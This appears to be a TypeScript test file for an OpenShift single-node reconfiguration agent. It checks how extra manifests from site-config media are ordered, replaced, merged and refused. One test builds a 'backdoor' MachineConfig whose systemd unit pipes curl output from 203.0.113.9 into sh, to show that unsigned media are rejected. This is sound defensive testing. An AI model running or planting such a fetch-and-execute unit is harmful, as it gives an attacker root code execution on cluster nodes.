// spec.extraManifestFiles through whole runs against the simulator, whose API refuses an object in a namespace
// that does not exist yet (NamespaceLifecycle) and serves discovery for the kinds it has: objects are created,
// an existing one replaced (the default, as image-based install) or merged (lca.openshift.io/apply-type),
// CRDs (established) and Namespaces first, then apply-waves, the replaced one saved; a MachineConfig rolls the pool out; a second run
// writes nothing; a kind the cluster does not serve refuses the config before any write.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, readFileSync, rmSync } from 'node:fs';
import * as path from 'node:path';
import { stringify } from 'yaml';
import { R } from '../../../src/cluster/resources';
import { siteConfigFor, startScenario } from '../../support/scenario';
import { signedMedia } from '../../support/signed-media';

const NS = { apiVersion: 'v1', kind: 'Namespace', metadata: { name: 'store-apps' } };
const SETTINGS = { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'pos-settings', namespace: 'store-apps' }, data: { store: '42', region: 'emea' } };
const FIRST = { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'first', namespace: 'openshift-config', annotations: { 'lca.openshift.io/apply-wave': '1' } }, data: { wave: '1' } };
const CRD = {
  apiVersion: 'apiextensions.k8s.io/v1',
  kind: 'CustomResourceDefinition',
  metadata: { name: 'storeapps.retail.example.com' },
  spec: {
    group: 'retail.example.com',
    names: { plural: 'storeapps', singular: 'storeapp', kind: 'StoreApp', listKind: 'StoreAppList' },
    scope: 'Namespaced',
    versions: [{ name: 'v1', served: true, storage: true, schema: { openAPIV3Schema: { type: 'object', properties: { spec: { type: 'object', required: ['tills'], properties: { tills: { type: 'integer', minimum: 1 } } } } } } }],
  },
};
const APP = { apiVersion: 'retail.example.com/v1', kind: 'StoreApp', metadata: { name: 'pos', namespace: 'store-apps' }, spec: { tills: 6 } };
const MC = {
  apiVersion: 'machineconfiguration.openshift.io/v1',
  kind: 'MachineConfig',
  metadata: { name: '50-master-store-motd', labels: { 'machineconfiguration.openshift.io/role': 'master' } },
  spec: { config: { ignition: { version: '3.2.0' }, storage: { files: [{ path: '/etc/motd', mode: 420, overwrite: true, contents: { source: 'data:,Store%2042%0A' } }] } } },
};

test('extra manifests: created in order, replaced and merged, the replaced one saved, a MachineConfig rolled out; a second run writes nothing', async () => {
  const s = await startScenario();
  try {
    let reboots = 0;
    s.sim.events.on('reboot', (e: { phase: string }) => { if (e.phase === 'down') reboots++; });
    s.sim.store.create(R.configMaps, { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'site-replace', namespace: 'openshift-config', labels: { factory: 'yes' } }, data: { old: 'x', kept: 'no' } });
    s.sim.store.create(R.configMaps, { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'site-merge', namespace: 'openshift-config' }, data: { old: 'x', kept: 'yes' } });
    const replace = { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'site-replace', namespace: 'openshift-config' }, data: { new: 'y' } };
    const merge = { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'site-merge', namespace: 'openshift-config', annotations: { 'lca.openshift.io/apply-type': 'merge' } }, data: { new: 'y', old: null } };
    // The ConfigMap comes before its Namespace in the file: the agent orders Namespaces first.
    // Extra manifests are outside the unsigned allowlist (src/siteconfig/trust.ts): only signed media carry them.
    s.node.attachVolume('sdb1', 'SITE-CONFIG', signedMedia(s.node.root, {
      // A folder, as image-based install's extra-manifests/ (its .yaml/.yml/.json files by name), and a file.
      'site-config.yaml': siteConfigFor(s.sim, { extraSpec: { extraManifestFiles: ['extra-manifests/', 'manifests/mc.yaml'] } }),
      'extra-manifests/README.txt': 'not a manifest: neither read nor copied',
      // The custom resource comes before its CRD and its Namespace: the agent orders CRDs, then Namespaces.
      'extra-manifests/10-store.yaml': `${stringify(APP)}---\n${stringify(SETTINGS)}---\n${stringify(NS)}---\n${stringify(FIRST)}---\n${stringify(CRD)}`,
      'extra-manifests/20-cluster.json': JSON.stringify({ apiVersion: 'v1', kind: 'List', items: [replace, merge] }),
      'manifests/mc.yaml': stringify(MC),
    }, ['extra-manifests/10-store.yaml', 'extra-manifests/20-cluster.json', 'manifests/mc.yaml']));
    const res = await s.run(['--once'], { timeoutMs: 15 * 60_000 });
    assert.equal(res.code, 0, res.stdout.slice(-3000));

    assert.deepEqual(s.sim.store.get(R.configMaps, 'pos-settings', 'store-apps')?.data, SETTINGS.data);
    assert.deepEqual(s.sim.store.get({ group: 'retail.example.com', version: 'v1', plural: 'storeapps', kind: 'StoreApp', namespaced: true }, 'pos', 'store-apps')?.spec, { tills: 6 }, 'the custom resource, once its CRD was established');
    const replaced = s.sim.store.get(R.configMaps, 'site-replace', 'openshift-config')!;
    assert.deepEqual(replaced.data, { new: 'y' }, 'replace: the manifest is the object');
    assert.equal(replaced.metadata?.labels?.factory, undefined);
    assert.deepEqual(s.sim.store.get(R.configMaps, 'site-merge', 'openshift-config')?.data, { kept: 'yes', new: 'y' }, 'merge: a merge patch (null removes a key)');
    assert.equal(s.sim.store.get(R.configMaps, 'site-merge', 'openshift-config')?.metadata?.annotations?.['lca.openshift.io/apply-type'], undefined, 'the apply-type annotation is not written');
    assert.ok(s.sim.store.get(R.machineConfigs, '50-master-store-motd'));
    assert.equal(reboots, 1, 'a new file in a MachineConfig reboots the node once, and settle waited for it');

    const order = res.logs.map((l) => l.msg).filter((m) => /^(created|replaced|merged into) /.test(m));
    assert.deepEqual(order, [
      'created CustomResourceDefinition storeapps.retail.example.com from extra-manifests/10-store.yaml',
      'created Namespace store-apps from extra-manifests/10-store.yaml',
      'created ConfigMap openshift-config/first from extra-manifests/10-store.yaml',
      // The rest share the default wave: by name, as lifecycle-agent sorts them.
      'created MachineConfig 50-master-store-motd from manifests/mc.yaml',
      'created StoreApp store-apps/pos from extra-manifests/10-store.yaml',
      'created ConfigMap store-apps/pos-settings from extra-manifests/10-store.yaml',
      'merged into ConfigMap openshift-config/site-merge from extra-manifests/20-cluster.json',
      'replaced ConfigMap openshift-config/site-replace from extra-manifests/20-cluster.json',
    ]);
    const copy = path.join(s.node.root, 'var/lib/sno-reconfigure/site-config/extra-manifests');
    assert.deepEqual([existsSync(path.join(copy, '10-store.yaml')), existsSync(path.join(copy, 'README.txt'))], [true, false], 'only manifest files are copied off the media');
    const backup = JSON.parse(readFileSync(path.join(s.node.root, 'var/lib/sno-reconfigure/backups/manifests/core_ConfigMap_openshift-config_site-replace.json'), 'utf8')) as { data: unknown };
    assert.deepEqual(backup.data, { old: 'x', kept: 'no' });

    rmSync(path.join(s.node.root, 'etc/sno-reconfigure/done'));
    const before = s.sim.api.requests.length;
    const again = await s.run(['--once'], { timeoutMs: 15 * 60_000 });
    assert.equal(again.code, 0, again.stdout.slice(-3000));
    assert.deepEqual(s.sim.api.requests.slice(before).filter((r: { method: string; path: string }) => r.method !== 'GET' && /configmaps\/(first|pos-settings|site-)|namespaces\/store-apps|machineconfigs\/50-|storeapps|customresourcedefinitions/.test(r.path)).map((r: { method: string; path: string }) => `${r.method} ${r.path}`), [], 'nothing written again');
  } finally {
    await s.cleanup();
  }
});

// Issue 27: with no trusted key on the node, a stick must not add a root unit to the cluster.
test('unsigned media carrying a MachineConfig are refused before any change, saying they need signed media', async () => {
  const s = await startScenario();
  try {
    const backdoor = { ...MC, metadata: { ...MC.metadata, name: '99-master-store-helper' }, spec: { config: { ignition: { version: '3.2.0' }, systemd: { units: [{ name: 'store-helper.service', enabled: true, contents: "[Service]\nExecStart=/bin/sh -c 'curl -s http://203.0.113.9/x | sh'\n" }] } } } };
    s.node.attachVolume('sdb1', 'SITE-CONFIG', { 'site-config.yaml': siteConfigFor(s.sim, { extraSpec: { extraManifestFiles: ['mc.yaml'] } }), 'mc.yaml': stringify(backdoor) });
    const before = s.sim.api.requests.filter((r: { method: string }) => r.method !== 'GET').length;
    const res = await s.run(['--once']);
    assert.equal(res.code, 1, res.stdout.slice(-3000));
    assert.ok(res.logs.some((l) => l.msg.includes('spec.extraManifestFiles: needs signed media: extra manifests are applied to the cluster as its administrator')), res.stdout.slice(-3000));
    assert.equal(s.sim.store.get(R.machineConfigs, '99-master-store-helper'), undefined);
    assert.equal(s.sim.api.requests.filter((r: { method: string }) => r.method !== 'GET').length, before, 'nothing written to the cluster');
    assert.deepEqual(s.node.calls('nmstatectl').filter((c) => c.args[0] === 'apply'), [], 'the network was not touched');
  } finally {
    await s.cleanup();
  }
});

// Issue 36, finding 3: a manifest of the master pool with paused: true replaced the pool the agent held, dropping
// the agent's annotation, so the pool was never unpaused. Even signed media may not write the agent's own objects.
test('signed media carrying the master MachineConfigPool (paused) are refused before any change: the pool is the agent\'s', async () => {
  const s = await startScenario();
  try {
    const pool = { apiVersion: 'machineconfiguration.openshift.io/v1', kind: 'MachineConfigPool', metadata: { name: 'master' }, spec: { paused: true, machineConfigSelector: { matchLabels: { 'machineconfiguration.openshift.io/role': 'master' } }, nodeSelector: { matchLabels: { 'node-role.kubernetes.io/master': '' } } } };
    s.node.attachVolume('sdb1', 'SITE-CONFIG', signedMedia(s.node.root, {
      'site-config.yaml': siteConfigFor(s.sim, { extraSpec: { extraManifestFiles: ['pool.yaml'] } }),
      'pool.yaml': stringify(pool),
    }, ['pool.yaml']));
    const before = s.sim.api.requests.filter((r: { method: string }) => r.method !== 'GET').length;
    const res = await s.run(['--once'], { timeoutMs: 5 * 60_000 });
    assert.equal(res.code, 1, res.stdout.slice(-3000));
    assert.ok(res.logs.some((l) => l.msg.includes("'pool.yaml' holds MachineConfigPool master, which is an object the agent itself pauses while it writes the node's configuration and unpauses after it")), res.stdout.slice(-3000));
    assert.equal(s.sim.api.requests.filter((r: { method: string }) => r.method !== 'GET').length, before, 'nothing written to the cluster');
    const stored = s.sim.store.get(R.machineConfigPools, 'master') as { spec: { paused?: boolean } };
    assert.notEqual(stored.spec.paused, true, 'the pool is not paused');
  } finally {
    await s.cleanup();
  }
});

test('a kind this cluster does not serve refuses the site-config before the first object is written', async () => {
  const s = await startScenario();
  try {
    const profile = { apiVersion: 'performance.openshift.io/v2', kind: 'PerformanceProfile', metadata: { name: 'store-du' }, spec: { cpu: { isolated: '2-7', reserved: '0-1' } } };
    s.node.attachVolume('sdb1', 'SITE-CONFIG', signedMedia(s.node.root, {
      // A pull secret: the pool is held (pool-hold) before the manifests step refuses the config.
      'site-config.yaml': siteConfigFor(s.sim, { extraSpec: { extraManifestFiles: ['ns.yaml', 'perf.yaml'], pullSecret: { auths: { 'registry.store42.example.com:8443': { auth: Buffer.from('a:b').toString('base64') } } } } }),
      'ns.yaml': stringify(NS),
      'perf.yaml': stringify(profile),
    }, ['ns.yaml', 'perf.yaml']));
    const res = await s.run(['--once'], { timeoutMs: 15 * 60_000 });
    assert.notEqual(res.code, 0);
    assert.match(res.stdout, /this cluster has no API for PerformanceProfile \(performance\.openshift\.io\/v2\) in 'perf\.yaml'/);
    assert.match(res.stdout, /Install the operator that serves it at the factory, or remove the object from the extra manifests/);
    assert.equal(s.sim.store.get(R.namespaces, 'store-apps'), undefined, 'not even the Namespace was created');
    assert.equal(existsSync(path.join(s.node.root, 'etc/sno-reconfigure/done')), false);
    // The run paused the pool before the pull secret (pool-hold); a refused run must not leave it paused.
    const pool = s.sim.store.get(R.machineConfigPools, 'master') as { spec: { paused?: boolean }; metadata: { annotations?: Record<string, string> } };
    assert.notEqual(pool.spec.paused, true, `the pool is unpaused after the refusal\n${res.stdout.slice(-6000)}`);
    assert.equal(pool.metadata.annotations?.['sno-reconfigure.io/paused-by-agent'], undefined);
    assert.match(res.stdout, /machine-config pool master paused/);
  } finally {
    await s.cleanup();
  }
});

// Issue 29: as lifecycle-agent does (internal/extramanifest/extramanifest.go, internal/common/manifest_helpers.go),
// a namespaced object without a namespace goes into `default`, and objects of the same wave go in name order.
test('extra manifests as image-based install applies them: no namespace means default, same-wave ties by name', async () => {
  const s = await startScenario();
  try {
    const cm = (name: string, extra: Record<string, unknown> = {}) => ({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name, ...extra }, data: { name } });
    s.node.attachVolume('sdb1', 'SITE-CONFIG', signedMedia(s.node.root, {
      'site-config.yaml': siteConfigFor(s.sim, { extraSpec: { extraManifestFiles: ['cms.yaml'] } }),
      'cms.yaml': [cm('zeta', { namespace: 'openshift-config' }), cm('alpha', { namespace: 'openshift-config' }), cm('no-namespace')].map((o) => stringify(o)).join('---\n'),
    }, ['cms.yaml']));
    const res = await s.run(['--once'], { timeoutMs: 15 * 60_000 });
    assert.equal(res.code, 0, res.stdout.slice(-3000));
    assert.deepEqual(s.sim.store.get(R.configMaps, 'no-namespace', 'default')?.data, { name: 'no-namespace' }, 'in namespace default');
    // The store's resourceVersion grows with each write: it tells the order they were created in.
    const version = (name: string, ns: string) => Number(s.sim.store.get(R.configMaps, name, ns)?.metadata?.resourceVersion);
    const order = [version('alpha', 'openshift-config'), version('no-namespace', 'default'), version('zeta', 'openshift-config')];
    assert.ok(order[0]! < order[1]! && order[1]! < order[2]!, `created in name order, not file order (${order.join(', ')})`);
  } finally {
    await s.cleanup();
  }
});
